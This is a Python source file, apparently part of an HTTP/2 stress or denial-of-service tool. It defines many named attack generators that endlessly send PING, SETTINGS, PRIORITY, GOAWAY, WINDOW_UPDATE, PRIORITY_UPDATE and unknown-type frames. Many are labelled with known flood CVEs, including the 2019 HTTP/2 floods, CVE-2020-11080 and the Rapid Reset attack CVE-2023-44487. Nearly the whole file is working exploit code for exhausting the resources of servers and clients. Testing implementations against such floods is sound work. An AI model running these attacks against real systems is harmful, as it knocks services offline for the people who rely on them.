"""Frames that carry no message: PING, SETTINGS, GOAWAY, PRIORITY, WINDOW_UPDATE, unknown types."""

from __future__ import annotations

import struct
from itertools import count, cycle, islice

from . import wire
from .attack import Frames, Role, attack
from .messages import GET, POST
from .streams import MANY, MANY_STREAMS, SOME, SOME_STREAMS
from .wire import settings

BOTH: tuple[Role, ...] = ("server", "client")
PINGS, SETTINGS, RESOURCES = "CVE-2019-9512", "CVE-2019-9515", "CVE-2019-9511"
LARGE = 16384


def _same(
    name: str,
    words: str,
    piece: bytes,
    victims: tuple[Role, ...] = BOTH,
    *,
    cve: str = "",
    streams: int = 0,
) -> None:
    """One frame, or a few, repeatedly."""

    def frames() -> Frames:
        while True:
            yield piece

    own = MANY_STREAMS if streams > 100 else {}
    attack(name, words, victims, cve=cve, streams=streams, own_settings=own)(frames)


_same("ping", "PING", wire.ping(), cve=PINGS)
_same(
    "ping-ack", "acknowledgments of PING frames that were not sent", wire.ping(ack=True), cve=PINGS
)
_same("settings-empty", "empty SETTINGS", settings(), cve=SETTINGS)
_same(
    "settings-same",
    "SETTINGS with the values that are in effect",
    settings((wire.MAX_FRAME_SIZE, LARGE)),
    cve=SETTINGS,
)
_same("settings-unknown", "SETTINGS with one unknown entry", settings((0x99, 1)), cve=SETTINGS)
_same(
    "settings-ack",
    "acknowledgments of SETTINGS that were not sent",
    wire.settings_ack(),
    cve=SETTINGS,
)
_same("settings-32", "SETTINGS with 32 entries", settings(*[(0x99, 1)] * 32), cve="CVE-2020-11080")
_same(
    "settings-many",
    "SETTINGS with 2,730 entries of one kind",
    settings(*[(wire.MAX_HEADER_LIST_SIZE, 1 << 16)] * 2730),
    cve="CVE-2020-11080",
)
_same(
    "settings-many-windows",
    "SETTINGS with 2,730 values of INITIAL_WINDOW_SIZE",
    settings(*[(wire.INITIAL_WINDOW_SIZE, 1), (wire.INITIAL_WINDOW_SIZE, 2)] * 1365),
    cve="CVE-2020-11080",
)
_same(
    "settings-many-tables",
    "SETTINGS with 2,730 values of HEADER_TABLE_SIZE",
    settings(*[(wire.HEADER_TABLE_SIZE, 0), (wire.HEADER_TABLE_SIZE, 4096)] * 1365),
    cve="CVE-2020-11080",
)
for _name, _setting, _values in (
    ("window", wire.INITIAL_WINDOW_SIZE, (1, 65535)),
    ("frame-size", wire.MAX_FRAME_SIZE, (16384, 16385)),
    ("table", wire.HEADER_TABLE_SIZE, (0, 4096)),
    ("large-table", wire.HEADER_TABLE_SIZE, (4096, 2**32 - 1)),
    ("streams", wire.MAX_CONCURRENT_STREAMS, (0, 100)),
    ("list-size", wire.MAX_HEADER_LIST_SIZE, (1, 65536)),
):
    _same(
        f"settings-toggle-{_name}",
        f"SETTINGS that change {_name} back and forth",
        settings((_setting, _values[0])) + settings((_setting, _values[1])),
        cve=SETTINGS,
    )
_same(
    "settings-toggle-window-streams",
    f"INITIAL_WINDOW_SIZE back and forth, {MANY:,} streams open",
    settings((wire.INITIAL_WINDOW_SIZE, 1)) + settings((wire.INITIAL_WINDOW_SIZE, 2**20)),
    cve=RESOURCES,
    streams=MANY,
)
_same(
    "settings-toggle-frame-size-streams",
    f"MAX_FRAME_SIZE back and forth, {MANY:,} streams open",
    settings((wire.MAX_FRAME_SIZE, 16384)) + settings((wire.MAX_FRAME_SIZE, 2**24 - 1)),
    cve=RESOURCES,
    streams=MANY,
)
_same(
    "settings-toggle-push",
    "SETTINGS that change ENABLE_PUSH back and forth",
    settings((wire.ENABLE_PUSH, 0)) + settings((wire.ENABLE_PUSH, 1)),
    ("server",),
    cve=SETTINGS,
)
_same(
    "settings-ack-with-ping", "PING and SETTINGS, alternating", wire.ping() + settings(), cve=PINGS
)


@attack(
    "settings-unknown-entries",
    "SETTINGS with 2,730 unknown entries, all different",
    BOTH,
    cve="CVE-2020-11080",
)
def settings_unknown_entries() -> Frames:
    identifiers = cycle(range(0x100, 0x10000))
    while True:
        yield settings(*((identifier, 1) for identifier in islice(identifiers, 2730)))


@attack("settings-values", "SETTINGS with another value each time", BOTH, cve=SETTINGS)
def settings_values() -> Frames:
    for value in count():
        yield settings((wire.MAX_HEADER_LIST_SIZE, value))


@attack("ping-values", "PING with other octets each time", BOTH, cve=PINGS)
def ping_values() -> Frames:
    for value in count():
        yield wire.ping(struct.pack(">Q", value))


@attack(
    "stale-window-bound",
    "a stream with a huge window ends, then SETTINGS; many streams open",
    cve=RESOURCES,
    streams=SOME,
    own_settings=SOME_STREAMS,
    peer_settings={wire.INITIAL_WINDOW_SIZE: 0},
)
def stale_window_bound() -> Frames:
    for stream_id in wire.odd_numbers(2 * SOME + 1):
        yield (
            wire.headers(stream_id, POST)
            + wire.window_update(stream_id, wire.LARGEST)
            + wire.rst_stream(stream_id)
            + settings((wire.INITIAL_WINDOW_SIZE, 1), (wire.INITIAL_WINDOW_SIZE, 0))
        )


# PRIORITY.

_same("priority", "PRIORITY on one stream", wire.priority(1), cve="CVE-2019-9513", streams=1)
_same("priority-idle", "PRIORITY on an idle stream", wire.priority(99), cve="CVE-2019-9513")
_same(
    "priority-length",
    "PRIORITY of four octets on an idle stream",
    wire.frame(wire.PRIORITY, 0, 99, bytes(4)),
)
_same(
    "priority-length-open",
    "PRIORITY of four octets on open streams",
    wire.frame(wire.PRIORITY, 0, 1, bytes(4)),
    streams=1,
)
_same("priority-self", "PRIORITY on itself, idle", wire.priority(99, 99), cve="CVE-2019-9513")


@attack("priority-all", "PRIORITY on another idle stream each time", BOTH, cve="CVE-2019-9513")
def priority_all() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.priority(stream_id)


@attack("priority-chain", "each stream depends on the previous one", BOTH, cve="CVE-2019-9513")
def priority_chain() -> Frames:
    for stream_id in wire.odd_numbers(3):
        yield wire.priority(stream_id, stream_id - 2)


@attack(
    "priority-shuffle",
    "the priority tree is inverted repeatedly",
    BOTH,
    cve="CVE-2019-9513",
    streams=50,
)
def priority_shuffle() -> Frames:
    for number in count():
        child, parent = 1 + 2 * (number % 50), 1 + 2 * (number * 7 % 50)
        yield wire.priority(child, parent if parent != child else 0, exclusive=True)


# GOAWAY.

_same("goaway", "the same GOAWAY", wire.goaway(wire.LARGEST))
_same(
    "goaway-streams",
    f"the same GOAWAY, {MANY:,} streams open",
    wire.goaway(wire.LARGEST),
    streams=MANY,
)
_same(
    "goaway-debug",
    "GOAWAY with 16 KB of debug data",
    wire.goaway(wire.LARGEST, 0, bytes(LARGE - 8)),
)


@attack(
    "goaway-falling",
    f"GOAWAY with falling identifiers, {MANY:,} streams open",
    BOTH,
    streams=MANY,
    own_settings=MANY_STREAMS,
)
def goaway_falling() -> Frames:
    for last in range(wire.LARGEST, 2 * MANY, -2):
        yield wire.goaway(last)


@attack(
    "goaway-ending",
    f"GOAWAY with falling identifiers that end {MANY:,} streams one by one",
    ("client",),
    streams=MANY,
)
def goaway_ending() -> Frames:
    for last in range(2 * MANY + 1, 0, -2):
        yield wire.goaway(last)


# Unknown types, extensions.

_same("unknown-empty", "empty frames of an unknown type", wire.frame(0xEE, 0, 0))
_same(
    "unknown-flags",
    "frames of an unknown type with all flags",
    wire.frame(0xEE, 0xFF, 1, b"x"),
    streams=1,
)
_same("unknown-large", "frames of 16 KB of an unknown type", wire.frame(0xEE, 0, 0, bytes(LARGE)))
_same("altsvc", "ALTSVC for an origin", wire.altsvc(0, b"https://example.com", b'h3=":443"'))
_same("altsvc-stream", "ALTSVC on a stream", wire.altsvc(1, b"", b'h3=":443"'), streams=1)
_same("altsvc-large", "ALTSVC of 16 KB", wire.altsvc(0, b"https://example.com", b"x" * 16000))
_same("altsvc-ignored", "ALTSVC without origin", wire.altsvc(0, b"", b""))
_same("origin", "ORIGIN", wire.frame(wire.ORIGIN, 0, 0, b"\0\x13https://example.com"))
_same(
    "origin-large",
    "ORIGIN with 16 KB of origins",
    wire.frame(wire.ORIGIN, 0, 0, b"\0\x13https://example.com" * 780),
)
_same(
    "origin-short",
    "ORIGIN with 16 KB of the shortest origins",
    wire.frame(wire.ORIGIN, 0, 0, b"\0\5a://b" * 2340),
)
_same(
    "priority-update-large",
    "PRIORITY_UPDATE of 16 KB of parameters",
    wire.frame(wire.PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01" + b"a=1, " * 3200),
    streams=1,
)
_same(
    "priority-update",
    "PRIORITY_UPDATE for a stream",
    wire.frame(wire.PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1"),
    streams=1,
)


@attack("priority-update-idle", "PRIORITY_UPDATE for another idle stream each time", BOTH)
def priority_update_idle() -> Frames:
    for stream_id in wire.odd_numbers():
        payload = struct.pack(">L", stream_id) + b"u=7, i"
        yield wire.frame(wire.PRIORITY_UPDATE, 0, 0, payload)


@attack("unknown-types", "frames of all unknown types in turn", BOTH)
def unknown_types() -> Frames:
    for kind in cycle(range(0x20, 0x100)):
        yield wire.frame(kind, 0, 0, b"x")


# WINDOW_UPDATE.

_same(
    "window-update", "WINDOW_UPDATE of 1 on the connection", wire.window_update(0, 1), cve=RESOURCES
)
_same(
    "window-update-stream",
    "WINDOW_UPDATE of 1 on a stream",
    wire.window_update(1, 1),
    cve=RESOURCES,
    streams=1,
)
_same(
    "window-update-length",
    "WINDOW_UPDATE of three octets",
    wire.frame(wire.WINDOW_UPDATE, 0, 0, bytes(3)),
)


@attack(
    "window-update-streams",
    f"WINDOW_UPDATE of 1 on {MANY:,} streams in turn",
    BOTH,
    cve=RESOURCES,
    streams=MANY,
    own_settings=MANY_STREAMS,
)
def window_update_streams() -> Frames:
    for stream_id in cycle(range(1, 2 * MANY, 2)):
        yield wire.window_update(stream_id, 1)


@attack("window-update-idle", "WINDOW_UPDATE on streams that were never opened", BOTH)
def window_update_idle() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.window_update(stream_id, 1)


@attack(
    "tiny-windows",
    "content is requested octet by octet",
    cve="CVE-2019-9511",
    content=100_000,
    peer_settings={wire.INITIAL_WINDOW_SIZE: 1},
    batch=100,
)
def tiny_windows() -> Frames:
    ids = range(1, 200, 2)
    for stream_id in ids:
        yield wire.headers(stream_id, GET, end=True)
    for stream_id in cycle(ids):
        yield wire.window_update(stream_id, 1)


# Streams with content that is waiting for a window.

#: A window of -1 for a stream that has sent one octet, and of 0.
_TO_AND_FRO = settings((wire.INITIAL_WINDOW_SIZE, 0)) + settings((wire.INITIAL_WINDOW_SIZE, 1))
FEW = 100
_ONE_OCTET = {wire.INITIAL_WINDOW_SIZE: 1}


@attack(
    "settings-toggle-window-waiting",
    f"INITIAL_WINDOW_SIZE back and forth, {2 * MANY:,} responses wait for a window",
    cve=RESOURCES,
    streams=2 * MANY,
    answered=True,
    content=LARGE,
    own_settings=MANY_STREAMS,
    peer_settings=_ONE_OCTET,
)
def settings_toggle_window_waiting() -> Frames:
    while True:
        yield _TO_AND_FRO


@attack(
    "settings-toggle-window-waiting-alone",
    "the same, with reads of two SETTINGS frames",
    cve=RESOURCES,
    streams=2 * MANY,
    answered=True,
    content=LARGE,
    own_settings=MANY_STREAMS,
    peer_settings=_ONE_OCTET,
    batch=2,
)
def settings_toggle_window_waiting_alone() -> Frames:
    yield from settings_toggle_window_waiting()


@attack(
    "window-update-waiting",
    f"WINDOW_UPDATE of 1 on {SOME:,} responses that wait for it",
    cve=RESOURCES,
    streams=SOME,
    answered=True,
    content=LARGE,
    own_settings=SOME_STREAMS,
    peer_settings=_ONE_OCTET,
    batch=100,
)
def window_update_waiting() -> Frames:
    for stream_id in cycle(range(1, 2 * SOME, 2)):
        yield wire.window_update(stream_id, 1)


@attack(
    "priority-update-waiting",
    f"PRIORITY_UPDATE for {FEW} responses that wait for a window",
    streams=FEW,
    answered=True,
    content=LARGE,
    own_settings=SOME_STREAMS,
    peer_settings=_ONE_OCTET,
    batch=100,
)
def priority_update_waiting() -> Frames:
    for number, stream_id in enumerate(cycle(range(1, 2 * FEW, 2))):
        value = b"u=%d, i" % (number % 8) if number & 1 else b"u=%d" % (number % 8)
        yield wire.frame(wire.PRIORITY_UPDATE, 0, 0, struct.pack(">L", stream_id) + value)


@attack(
    "priority-update-ready",
    "the same if only the connection window is exhausted",
    streams=FEW,
    answered=True,
    content=LARGE,
    own_settings=SOME_STREAMS,
    batch=100,
)
def priority_update_ready() -> Frames:
    yield from priority_update_waiting()


@attack(
    "reset-waiting",
    "requests whose responses wait for a window, each reset",
    cve="CVE-2023-44487",
    content=10 * LARGE,
    peer_settings=_ONE_OCTET,
    batch=20,
)
def reset_waiting() -> Frames:
    ids = wire.odd_numbers()
    while batch := list(islice(ids, 20)):
        yield b"".join(wire.headers(stream_id, GET, end=True) for stream_id in batch)
        yield b"".join(wire.rst_stream(stream_id) for stream_id in batch)
